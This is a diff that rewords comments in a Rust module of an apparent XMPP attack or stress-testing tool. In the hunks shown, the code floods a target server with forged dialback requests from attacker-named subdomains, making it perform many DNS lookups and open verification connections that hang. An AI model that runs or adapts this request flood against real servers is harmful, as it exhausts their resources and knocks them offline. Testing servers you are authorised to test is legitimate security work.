@@ -1,4 +1,5 @@
-//! Attacks by dialback requests, which make the target look up and dial domains that the attacker names (XEP-0220 §3).
+//! Attacks by dialback requests, which make the target look up domains that the attacker names, and connect to them
+//! (XEP-0220 §3).
 
 use std::fmt::Write as _;
 use std::io::BufRead as _;
@@ -10,12 +11,12 @@ use super::aim::{Aim, Opened};
 use super::connections::repeat;
 use super::tally::Tally;
 
-/// Requests on one stream.
+/// Number of requests on one stream.
 pub(crate) const REQUESTS: usize = 64;
-/// How long answers are awaited before the next stream.
+/// Maximum time to wait for answers before the next stream.
 const ANSWER_TIMEOUT: Duration = Duration::from_secs(2);
 
-/// Requests from domains below `from` that nobody has asked for before: each is a lookup.
+/// Sends requests from new domains below `from`: each causes a lookup.
 pub(super) fn lookups(aim: &Aim, tally: &Tally) -> Result<()> {
     let tls = aim.tls()?;
     repeat(aim, tally, |thread, time| {
@@ -25,8 +26,8 @@ pub(super) fn lookups(aim: &Aim, tally: &Tally) -> Result<()> {
     Ok(())
 }
 
-/// Requests from domains below `from` whose server accepts connections and never says anything: each is a verification that
-/// hangs.
+/// Sends requests from domains below `from` whose server accepts connections and never answers: each causes a
+/// verification that hangs.
 pub(super) fn hanging(aim: &Aim, tally: &Tally) -> Result<()> {
     let tls = aim.tls()?;
     repeat(aim, tally, |_, _| {
@@ -45,13 +46,13 @@ fn request(
     let (from, to) = (&aim.from, &aim.domain);
     let mut requests = String::new();
     for number in 0..REQUESTS {
-        // A string takes everything.
+        // Writing to a string cannot fail.
         let _ =
             write!(requests, "<db:result from='{}.{from}' to='{to}'>00</db:result>", name(number));
     }
     opened.stream.send(&requests)?;
     tally.sent(requests.len());
-    // The target may answer, or end the stream, or neither.
+    // The target may answer, or close the stream, or neither.
     let transport = opened.stream.transport();
     while !tally.is_over() && transport.is_readable_within(ANSWER_TIMEOUT).unwrap_or(false) {
         let Ok(bytes) = transport.fill_buf() else { break };
